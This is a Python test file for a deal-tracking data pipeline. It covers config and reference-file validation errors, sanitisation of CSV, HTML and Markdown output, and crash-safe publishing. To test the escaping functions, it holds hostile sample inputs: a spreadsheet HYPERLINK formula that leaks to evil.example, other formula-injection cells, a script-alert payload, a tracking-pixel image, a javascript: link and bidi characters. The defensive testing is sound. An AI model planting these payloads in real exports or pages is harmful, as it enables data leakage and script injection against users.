"""Faults in configuration (sources.toml, reference files) and in output (CSV, HTML, Markdown, publishing)."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import sys
import textwrap
import uuid
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from assets.fetching.resource import HttpFetcherResource
from assets.metadata import markdown_table
from assets.normalize.fx import FxTable
from assets.normalize.names import Names
from assets.sources import RegistryError, load_registry
from schemas.reference import BUNDLED_DIR, ReferenceDataError
from schemas.taxonomy import Taxonomy, default_taxonomy
from schemas.vocabulary import Currencies, RoundTypes
from tests.integration.http_fixtures import materialization_metadata
from tests.integration.pipeline import run_refresh
from warehouse.publish import publish
from warehouse.safe_text import csv_cell, csv_frame, html_text, markdown_cell

# ---- the source registry ---------------------------------------------------------------------------------

FEED = '[[source]]\nid = "wire"\nkind = "feed"\nurl = "feed.xml"\n'
TABLE = '[[source]]\nid = "tracker"\nkind = "table"\nurl = "tracker.csv"\n'
ARTICLE = '[[source]]\nid = "map"\nkind = "article"\nurl = "map.html"\n'


def registry_problems(tmp_path: Path, text: str) -> tuple[str, tuple[str, ...]]:
    """The message and problems of the RegistryError that loading `text` as sources.toml raises."""
    path = tmp_path / "conf" / "sources.toml"
    path.parent.mkdir(exist_ok=True)
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    with pytest.raises(RegistryError) as raised:
        load_registry(path)
    message = str(raised.value)
    assert message.startswith(f"{path}:")  # the file's full path
    return message, raised.value.problems


def test_a_misspelt_option_names_source_key_and_the_accepted_keys(tmp_path: Path) -> None:
    _, problems = registry_problems(tmp_path, TABLE + '[source.options]\nfromat = "csv"\n')

    assert problems == (
        "source #1 ('tracker'): options.fromat: unknown option (did you mean 'format'?); "
        "table sources accept: currency, date_format, encoding, format",
    )


def test_a_misspelt_column_names_source_key_and_the_dealmap_fields(tmp_path: Path) -> None:
    _, problems = registry_problems(tmp_path, TABLE + '[source.columns]\ncompnay = "Startup"\n')

    assert problems == (
        "source #1 ('tracker'): columns.compnay: unknown dealmap field (did you mean 'company'?); "
        "fields: company, round_type, amount, currency, valuation, segment, announced_date, "
        "lead_investors, investors, description, status",
    )


def test_options_and_columns_for_a_kind_that_does_not_take_them(tmp_path: Path) -> None:
    text = (
        TABLE
        + "[source.options]\nmax_entries = 5\n"
        + FEED
        + '[source.options]\nformat = "csv"\n'
        + ARTICLE
        + '[source.columns]\ncompany = "Name"\n[source.options]\nencoding = "utf-8"\n'
    )

    _, problems = registry_problems(tmp_path, text)

    assert problems == (
        "source #1 ('tracker'): options.max_entries: 'max_entries' is a feed option, not for table sources; "
        "table sources accept: currency, date_format, encoding, format",
        "source #2 ('wire'): options.format: 'format' is a table option, not for feed sources; "
        "feed sources accept: currency, max_entries",
        "source #3 ('map'): columns: article sources take no [source.columns] "
        "(only table sources map columns)",
        "source #3 ('map'): options.encoding: 'encoding' is a table option, not for article sources; "
        "article sources accept: currency",
    )


POSITIVE = "a positive integer"
TEXT_CODEC = "a text encoding Python knows"


@pytest.mark.parametrize(
    ("source", "option", "expected"),
    [
        (FEED, 'max_entries = "all"', POSITIVE),
        (FEED, "max_entries = -1", POSITIVE),
        (FEED, "max_entries = 0", POSITIVE),
        (FEED, "max_entries = true", POSITIVE),  # bool is an int in Python: not a limit of one entry
        (FEED, "max_entries = 2.5", POSITIVE),
        (TABLE, 'currency = "usd"', "an ISO code from currencies.toml (AUD, "),
        (TABLE, 'currency = "XYZ"', "an ISO code from currencies.toml"),
        (TABLE, "currency = 840", "an ISO code"),
        (TABLE, 'format = "xlsx"', "an export format (csv, json, jsonl)"),
        (TABLE, 'encoding = "latin-9x"', TEXT_CODEC),
        (TABLE, 'encoding = "base64"', TEXT_CODEC),  # a codec Python knows, but not a text encoding
        (TABLE, 'date_format = "YYYY-MM-DD"', "a strptime format"),
        (TABLE, 'date_format = "%Y-%Q"', "a strptime format"),
    ],
)
def test_option_values_of_the_wrong_type_or_range_name_source_key_and_value(
    tmp_path: Path, source: str, option: str, expected: str
) -> None:
    _, problems = registry_problems(tmp_path, source + f"[source.options]\n{option}\n")

    source_id = "wire" if source is FEED else "tracker"
    assert len(problems) == 1
    assert problems[0].startswith(f"source #1 ('{source_id}'): options.{option}: expected {expected}")


def test_every_problem_of_the_registry_is_reported_at_once(tmp_path: Path) -> None:
    text = (
        FEED
        + 'colour = "blue"\n[source.options]\nmax_entries = "all"\n'
        + TABLE
        + 'max_bytes = 0\n[source.columns]\ncompnay = "Startup"\n'
        + '[source.options]\nfromat = "csv"\ncurrency = "usd"\nencoding = "nope"\n'
        + ARTICLE.replace('"article"', '"podcast"')
        + FEED
    )

    message, problems = registry_problems(tmp_path, text)

    assert [problem.split(":")[0] for problem in problems] == [
        "source #1 ('wire')",
        "source #1 ('wire')",
        "source #2 ('tracker')",
        "source #2 ('tracker')",
        "source #2 ('tracker')",
        "source #2 ('tracker')",
        "source #2 ('tracker')",
        "source #3 ('map')",
        "source id 'wire' is used twice (sources #1, #4)",
    ]
    fields = ["colour", "max_entries", "max_bytes", "compnay", "fromat", "currency", "encoding", "'kind'"]
    assert all(any(name in problem for problem in problems) for name in fields)
    assert f"{len(problems)} problems" in message.splitlines()[0]
    assert all(f"  - {problem}" in message for problem in problems)


@pytest.mark.parametrize(
    ("text", "problems"),
    [
        ("", ["no [[source]] tables: there is nothing to refresh"]),
        ("# every source was removed\n", ["no [[source]] tables: there is nothing to refresh"]),
        (
            ARTICLE + "enabled = false\n" + FEED + "enabled = false\n",
            ["every source has enabled = false: there is nothing to refresh"],
        ),
    ],
)
def test_a_registry_without_enabled_sources_is_an_error(
    tmp_path: Path, text: str, problems: list[str]
) -> None:
    assert list(registry_problems(tmp_path, text)[1]) == problems


def test_a_misspelt_sources_table_is_named(tmp_path: Path) -> None:
    _, problems = registry_problems(tmp_path, ARTICLE.replace("[[source]]", "[[sources]]"))

    assert problems == (
        "unknown top-level table [[sources]] (did you mean [[source]]?); "
        "the registry holds only [[source]] tables",
        "no [[source]] tables: there is nothing to refresh",
    )


def test_a_refresh_with_a_bad_registry_fails_naming_source_and_key_and_publishes_nothing(
    tmp_path: Path,
) -> None:
    registry = tmp_path / "sources.toml"
    registry.write_text(FEED + '[source.options]\nmax_entries = "all"\n', encoding="utf-8")
    data_dir = tmp_path / "data"

    result = run_refresh(data_dir, sources_path=registry, fetcher=HttpFetcherResource(min_host_interval_s=0))

    assert not result.success
    failures = {
        event.step_key: event.step_failure_data.error.to_string()
        for event in result.get_step_failure_events()
    }
    assert "documents" in failures
    assert (
        "source #1 ('wire'): options.max_entries = \"all\": expected a positive integer"
        in failures["documents"]
    )
    assert str(registry) in failures["documents"]
    assert not (data_dir / "dealmap.duckdb").exists()
    assert not any(data_dir.glob("*.building*"))


# ---- reference files -------------------------------------------------------------------------------------


@pytest.fixture
def reference_copy(tmp_path: Path) -> Path:
    """A copy of the shipped reference files, to spoil one at a time."""
    directory = tmp_path / "reference"
    shutil.copytree(BUNDLED_DIR, directory, ignore=shutil.ignore_patterns("*.py", "__pycache__"))
    return directory


def spoil(path: Path, old: str, new: str) -> Path:
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return path


def line_of(path: Path, fragment: str) -> int:
    return next(
        n for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if fragment in line
    )


@pytest.mark.parametrize(
    ("name", "old", "new", "load"),
    [
        ("taxonomy.toml", 'label = "Hardware"', 'label = "Hardware', Taxonomy.load),
        ("round_types.toml", 'label = "Seed"', "label = Seed", RoundTypes.load),
        ("currencies.toml", 'symbols = ["€", "EUR"]', 'symbols = ["€" "EUR"]', Currencies.load),
        (
            "aliases.toml",
            '"Cerebras Systems" = ["Cerebras"]',
            '"Cerebras Systems" = ["Cerebras"]]',
            Names.load,
        ),
    ],
)
def test_a_toml_syntax_error_names_the_file_and_line(reference_copy: Path, name, old, new, load) -> None:
    path = reference_copy / name
    line = line_of(path, old)
    spoil(path, old, new)

    with pytest.raises(
        ReferenceDataError, match=rf"not valid TOML: .*\(at line {line}, column \d+\)"
    ) as raised:
        load(path)

    assert str(raised.value).startswith(f"{path}: ")
    assert raised.value.path == str(path)


@pytest.mark.parametrize(
    ("name", "old", "new", "load", "problem"),
    [
        ("taxonomy.toml", "rank = 1\n", "", Taxonomy.load, "[layer.hardware] is missing 'rank' (an integer)"),
        (
            "taxonomy.toml",
            'layer = "hardware"',
            "layer = 3",
            Taxonomy.load,
            "must be text, not 3",
        ),
        ("taxonomy.toml", "aliases = [", "alias = [", Taxonomy.load, "unknown key 'alias'"),
        (
            "round_types.toml",
            'label = "Seed"\n',
            "",
            RoundTypes.load,
            "[round.seed] is missing 'label' (text)",
        ),
        (
            "round_types.toml",
            "[round.seed]",
            "[rounds.seed]",
            RoundTypes.load,
            "unknown top-level table 'rounds'",
        ),
        (
            "currencies.toml",
            'symbols = ["€", "EUR"]',
            'symbols = "€"',
            Currencies.load,
            "[currency.EUR] 'symbols' must be a list of text, not '€'",
        ),
        (
            "aliases.toml",
            '"Cerebras Systems" = ["Cerebras"]',
            '"Cerebras Systems" = "Cerebras"',
            Names.load,
            "[companies] 'Cerebras Systems' must be a list of text, not 'Cerebras'",
        ),
    ],
)
def test_a_well_formed_file_with_a_missing_key_or_wrong_type_names_file_and_key(
    reference_copy: Path, name, old, new, load, problem
) -> None:
    path = spoil(reference_copy / name, old, new)

    with pytest.raises(ReferenceDataError) as raised:
        load(path)

    assert str(raised.value).startswith(f"{path}: ")
    assert any(problem in line for line in raised.value.problems), raised.value.problems


def test_bad_fx_rows_are_reported_with_their_lines(reference_copy: Path) -> None:
    path = reference_copy / "fx_usd_monthly.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    lines[2] = "2010-01-01,BRL,not-a-rate"
    lines[4] = "2010-13-01,CHF,0.96"
    lines[5] = "2010-01-01,usd"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")

    with pytest.raises(ReferenceDataError) as raised:
        FxTable.load(path)

    assert str(raised.value).startswith(f"{path}: 3 problems")
    assert raised.value.problems == (
        "line 3: usd_per_unit 'not-a-rate' is not a positive number (row: '2010-01-01,BRL,not-a-rate')",
        "line 5: month '2010-13-01' is not a date (YYYY-MM-01) (row: '2010-13-01,CHF,0.96')",
        "line 6: 2 fields where 3 are expected (row: '2010-01-01,usd')",
    )


def test_a_broken_reference_file_fails_the_runtime_loader_with_its_path(
    reference_copy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = spoil(reference_copy / "taxonomy.toml", 'layer = "hardware"', 'layer = "silicon"')
    monkeypatch.setenv("DEALMAP_REFERENCE_DIR", str(reference_copy))

    with pytest.raises(ReferenceDataError, match=r"segment '\w+' names unknown layer 'silicon'") as raised:
        default_taxonomy()

    assert raised.value.path == str(path)


# ---- text leaving dealmap ----------------------------------------------------------------------------------

RLO = "\u202e"
HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak=1","Orrin")',
    "at": "@SUM(1)",
    "plus": "+1 Ventures",
    "minus": "-Orrin",
    "script": "<script>alert(1)</script>",
    "quotes": "\"quotes\" & 'apostrophes'",
    "bidi": f"Orrin {RLO}sbaL{RLO} AI",
    "pipe": "Orrin|Labs",
    "tab": "\t=1+1",
}


@pytest.mark.parametrize(
    ("key", "cell"),
    [
        ("hyperlink", "'" + HOSTILE["hyperlink"]),
        ("at", "'@SUM(1)"),
        ("plus", "'+1 Ventures"),
        ("minus", "'-Orrin"),
        ("script", "<script>alert(1)</script>"),  # harmless in a spreadsheet; the CSV writer quotes it
        ("quotes", HOSTILE["quotes"]),
        ("bidi", "Orrin [U+202E]sbaL[U+202E] AI"),
        ("pipe", "Orrin|Labs"),
        ("tab", "'\t=1+1"),
    ],
)
def test_csv_cell_neutralises_formulas_and_bidi(key: str, cell: str) -> None:
    assert csv_cell(HOSTILE[key]) == cell


def test_csv_frame_neutralises_text_cells_only(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "company": [HOSTILE["hyperlink"], "-5 Labs", "Orrin"],
            "investors": [["@Evil", "Accel"], [], ["=1"]],
            "amount_usd": [-5_000_000, 10, 0],
            "valuation_usd": pd.array([-1, None, 3], dtype="Int64"),
        }
    )
    path = tmp_path / "deals.csv"

    csv_frame(frame).to_csv(path, index=False)

    with path.open(newline="", encoding="utf-8") as handle:
        written = list(csv.DictReader(handle))
    assert [row["company"] for row in written] == ["'" + HOSTILE["hyperlink"], "'-5 Labs", "Orrin"]
    assert [row["investors"] for row in written] == ["'@Evil, Accel", "", "'=1"]
    assert [row["amount_usd"] for row in written] == ["-5000000", "10", "0"]  # numbers stay numbers
    assert [row["valuation_usd"] for row in written] == ["-1", "", "3"]
    assert frame.loc[0, "company"] == HOSTILE["hyperlink"]  # the frame itself is left as it was


@pytest.mark.parametrize(
    ("key", "text"),
    [
        ("script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("quotes", "&quot;quotes&quot; &amp; &#x27;apostrophes&#x27;"),
        ("bidi", "Orrin [U+202E]sbaL[U+202E] AI"),
        ("hyperlink", "=HYPERLINK(&quot;http://evil.example/?leak=1&quot;,&quot;Orrin&quot;)"),
    ],
)
def test_html_text_escapes_markup_quotes_and_bidi(key: str, text: str) -> None:
    assert html_text(HOSTILE[key]) == text


def test_a_control_character_from_a_broken_export_is_shown_not_passed_on() -> None:
    assert html_text("Null\x00Byte\x1b[31m") == "Null[U+0000]Byte[U+001B][31m"
    assert csv_cell("\x00=1+1") == "[U+0000]=1+1"  # visible, and no longer a formula's start
    assert html_text("two\tcolumns\nand lines") == "two\tcolumns\nand lines"  # white space stays


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HOSTILE["pipe"], r"Orrin\|Labs"),
        (HOSTILE["script"], "&lt;script&gt;alert(1)&lt;/script&gt;"),
        (HOSTILE["bidi"], r"Orrin \[U+202E\]sbaL\[U+202E\] AI"),
        ("![pixel](http://evil.example/p.png)", r"!\[pixel\](http://evil.example/p.png)"),
        ("[click](javascript:alert(1))", r"\[click\](javascript:alert(1))"),
        ("line one\nline two\r\nthree", "line one line two three"),
        (None, ""),
    ],
)
def test_markdown_cell_escapes_table_syntax_html_newlines_and_bidi(value: object, cell: str) -> None:
    assert markdown_cell(value) == cell


def test_a_markdown_preview_keeps_one_cell_per_column_whatever_the_names() -> None:
    frame = pd.DataFrame({"company": list(HOSTILE.values()), "amount_usd": range(len(HOSTILE))})

    table = markdown_table(frame, limit=len(HOSTILE))

    rows = table.splitlines()
    assert len(rows) == 2 + len(HOSTILE)
    # Every row has exactly the three unescaped pipes of a two-column table.
    assert all(row.replace("\\|", "").count("|") == 3 for row in rows)
    assert "<script>" not in table
    assert RLO not in table
    assert "\t" not in table


@pytest.fixture(scope="module")
def hostile_refresh(tmp_path_factory: pytest.TempPathFactory):
    """A whole refresh of one export whose company names are hostile."""
    root = tmp_path_factory.mktemp("hostile")
    names = [HOSTILE[k] for k in ("hyperlink", "at", "script", "bidi", "pipe", "minus")]
    with (root / "export.csv").open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["company", "round_type", "amount", "segment", "announced_date", "lead_investors"])
        for day, name in enumerate(names, 1):
            writer.writerow([name, "Seed", day * 1_000_000, "AI agents", f"2026-02-0{day}", "Harbor Capital"])
    (root / "sources.toml").write_text(
        '[[source]]\nid = "hostile"\nkind = "table"\nurl = "export.csv"\n'
        '[source.options]\ncurrency = "USD"\n',
        encoding="utf-8",
    )
    result = run_refresh(
        root / "data", sources_path=root / "sources.toml", fetcher=HttpFetcherResource(min_host_interval_s=0)
    )
    with duckdb.connect(str(root / "data" / "dealmap.duckdb"), read_only=True) as served:
        companies = {row[0] for row in served.execute("select company from deals").fetchall()}
        snippets = [row[0] for row in served.execute("select snippet from deal_sources").fetchall()]
    return result, names, companies, snippets


def test_the_served_file_keeps_source_text_as_written(hostile_refresh) -> None:
    result, names, companies, snippets = hostile_refresh

    assert result.success
    for name in names:  # the evidence holds the row exactly as the export had it
        assert sum(snippet.startswith(f"company={name};") for snippet in snippets) == 1
    # Names dealmap does not need to canonicalise are stored untouched, controls and all ('@SUM(1)' is
    # canonicalised to '@SUM' with the alias '1', as any trailing parenthetical is).
    assert {HOSTILE["script"], HOSTILE["bidi"], HOSTILE["pipe"], HOSTILE["minus"]} <= companies


def test_the_dagster_previews_of_a_refresh_are_neutralised(hostile_refresh) -> None:
    result, *_ = hostile_refresh

    preview = materialization_metadata(result, "deals")["preview"]

    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in preview
    assert "<script>" not in preview
    assert r"Orrin\|Labs" in preview
    assert r"Orrin \[U+202E\]sbaL\[U+202E\] AI" in preview
    assert RLO not in preview


# ---- publishing --------------------------------------------------------------------------------------------


def working_file(path: Path, deals: int) -> Path:
    with duckdb.connect(str(path)) as connection:
        connection.execute(
            "create or replace table deals as select 'd' || i as deal_id from range(?) t(i)", [deals]
        )
    return path


def served_count(path: Path) -> int:
    with duckdb.connect(str(path), read_only=True) as connection:
        return connection.execute("select count(*) from deals").fetchone()[0]


def test_a_publish_removes_the_building_files_of_killed_runs_and_nothing_else(tmp_path: Path) -> None:
    working = working_file(tmp_path / "work.duckdb", 3)
    served_dir = tmp_path / "data"
    served_dir.mkdir()
    served = served_dir / "dealmap.duckdb"
    stale = [f".dealmap.duckdb.{uuid.uuid4().hex}.building", f".dealmap.duckdb.{uuid.uuid4().hex}.building"]
    stale.append(stale[0] + ".wal")
    survivors = [
        "notes.txt",
        "dealmap.duckdb.bak",
        ".dealmap.duckdb.building",  # no uuid: not a name publish makes
        f".dealmap.duckdb.{uuid.uuid4().hex}.building.keep",
        f".other.duckdb.{uuid.uuid4().hex}.building",  # another served file's
        f".dealmap.duckdb.{uuid.uuid4().hex.upper()}.building",
    ]
    for name in stale + survivors:
        (served_dir / name).write_bytes(b"x" * 64)
    (served_dir / f".dealmap.duckdb.{uuid.uuid4().hex}.building.d").mkdir()  # a directory is never removed
    survivors.append(next(p.name for p in served_dir.iterdir() if p.is_dir()))

    report = publish(working, served, ["deals"])

    assert report.stale_removed == tuple(sorted(stale))
    assert sorted(p.name for p in served_dir.iterdir()) == sorted([*survivors, "dealmap.duckdb"])
    assert served_count(served) == 3


def test_a_publish_killed_mid_way_leaves_the_served_file_and_the_next_one_cleans_up(tmp_path: Path) -> None:
    working = working_file(tmp_path / "work.duckdb", 2)
    served = tmp_path / "data" / "dealmap.duckdb"
    publish(working, served, ["deals"])
    before = served.read_bytes()
    working_file(working, 7)
    # A real kill: the process dies just before the rename, as SIGKILL would, so no `finally` runs.
    code = (
        "import os, sys; import warehouse.publish as p\n"
        "os.replace = lambda *a: os._exit(9)\n"
        "p.publish(sys.argv[1], sys.argv[2], ['deals'])\n"
    )
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    killed = subprocess.run([sys.executable, "-c", code, str(working), str(served)], env=env, check=False)

    assert killed.returncode == 9
    left = [p for p in served.parent.iterdir() if p.name.endswith(".building")]
    assert len(left) == 1
    assert left[0].stat().st_size > 0  # the full-size file nothing removed
    assert served.read_bytes() == before

    report = publish(working, served, ["deals"])
    assert report.stale_removed == (left[0].name,)
    assert served_count(served) == 7
    after = served.read_bytes()

    with pytest.raises(duckdb.CatalogException):  # a publish that fails inside keeps the served file too
        publish(working, served, ["deals", "no_such_table"])
    assert served.read_bytes() == after
    # No debris: the served file, and the history of the refreshes it replaced (warehouse/publish.py).
    assert sorted(p.name for p in served.parent.iterdir()) == ["dealmap.duckdb", "served_history"]
    hidden = [p.name for p in (served.parent / "served_history").iterdir() if p.name.startswith(".")]
    assert hidden == [".served-order"]  # the log of what was served when; no half-kept file
